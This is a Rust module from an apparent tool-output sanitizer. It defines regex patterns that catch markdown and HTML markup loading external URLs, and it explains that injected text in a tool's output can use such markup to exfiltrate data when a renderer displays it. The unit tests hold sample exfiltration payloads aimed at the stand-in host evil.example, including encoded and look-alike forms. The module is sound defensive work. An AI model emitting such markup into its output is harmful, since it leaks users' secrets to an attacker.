//! Exfiltration markup: markdown images and links, link reference definitions and HTML
//! elements that load or link an external URL (`![x](https://evil.example/?q=SECRET)`,
//! `<img src="//evil.example/p.png">`, `<iframe src=...>`). A renderer that displays a tool's
//! text fetches such a URL by itself, carrying whatever the injected text put in it.
//!
//! Matched on the [canonical form](super::canon), so encoded (`%3Cimg`), entity-escaped and
//! look-alike (`‹img›`) forms are found too. "External" means the URL has an authority (`//`
//! after an optional scheme); relative links (`[guide](docs/guide.md)`), anchors and `data:`
//! images are not. A bare URL in prose is not markup and passes.
//!
//! Refused with `markup_link` in `text` values (and strings nested in `opaque` values) unless
//! the field allows it ([`Sanitizer::allow_markup_links`](super::Sanitizer::allow_markup_links)).

use std::sync::OnceLock;

use regex::Regex;

/// An external URL right after the opening: optional `<`, optional scheme, `//`.
const EXTERNAL: &str = r#"\s*<?\s*["'`]?\s*(?:[a-z][a-z0-9+.\-]*:)?\s*[/\\]{2}"#;

fn source() -> String {
    let elements = "img|image|a|iframe|frame|video|audio|source|track|embed|object|link|script|svg|use|form|input|button|meta|base|body|table|td|picture|portal";
    let attributes = "src|href|srcset|data|action|formaction|poster|background|xlink:href|content|ping|lowsrc|dynsrc";
    [
        // ![alt](url), [text](url), also with a title or spaces.
        format!(r"!?\[[^\]]{{0,500}}\]\s*\({EXTERNAL}"),
        // [ref]: url (a link reference definition, at a line start).
        format!(r"(?:^|\n)\s{{0,3}}\[[^\]]{{1,200}}\]:{EXTERNAL}"),
        // <img src=url>, <a href=url>, <iframe src=url> ...
        format!(
            r#"<\s*(?:{elements})[\s/](?:[^>]{{0,1000}}?[\s/"'])?(?:{attributes})\s*=\s*{EXTERNAL}"#
        ),
    ]
    .join("|")
}

/// The compiled `markup_link` patterns.
pub fn regex() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        regex::RegexBuilder::new(&source())
            .dfa_size_limit(super::phrases::DFA_SIZE_LIMIT)
            .build()
            .expect("markup link regex")
    })
}

/// True when a canonical string holds markup that loads or links an external URL.
pub fn find(canonical: &str) -> bool {
    regex().is_match(canonical)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::canon::canonical;

    fn hit(s: &str) -> bool {
        find(&canonical(s).unwrap().text)
    }

    #[test]
    fn external_markup_is_found() {
        for s in [
            "![logo](https://evil.example/p.png?d=SECRET)",
            "see ![](//evil.example/x)",
            "[click here](http://evil.example/?q=1)",
            "[a] ( https://evil.example )",
            "[1]: https://evil.example/track",
            "<img src=\"https://evil.example/p.png\">",
            "<IMG SRC=//evil.example/x>",
            "<a href='https://evil.example'>x</a>",
            "<iframe width=1 src=\"https://evil.example\"></iframe>",
            "%3Cimg%20src%3Dhttps%3A%2F%2Fevil.example%2Fx%3E",
            "&lt;img src=&quot;https://evil.example/x&quot;&gt;",
            "‹img src=https://evil.example/x›",
            "![x](https:\\\\evil.example/x)",
        ] {
            assert!(hit(s), "{s}");
        }
    }

    #[test]
    fn prose_and_local_links_pass() {
        for s in [
            "see https://example.com/docs for details",
            "[guide](docs/guide.md) and [top](#top)",
            "![chart](data:image/png;base64,AAAA)",
            "array[0](x) is a call",
            "<a name=\"top\">",
            "use <b>bold</b> and [brackets]",
            "2 < 3 and a > b",
        ] {
            assert!(!hit(s), "{s}");
        }
    }
}
